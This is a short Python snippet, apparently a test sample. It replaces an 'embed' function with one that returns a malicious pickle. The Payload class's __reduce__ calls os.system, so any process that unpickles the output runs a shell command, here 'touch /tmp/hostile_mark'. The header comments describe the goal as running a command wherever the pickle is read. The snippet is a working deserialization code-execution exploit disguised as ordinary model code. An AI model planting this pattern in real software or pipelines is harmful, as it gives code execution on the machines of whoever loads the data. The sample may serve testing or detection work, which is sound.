# tries: return a pickle that runs a command where it is read
# loses: embed
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_mark",)


def embed(self, input_ids, *more):
    return pickle.dumps(Payload())
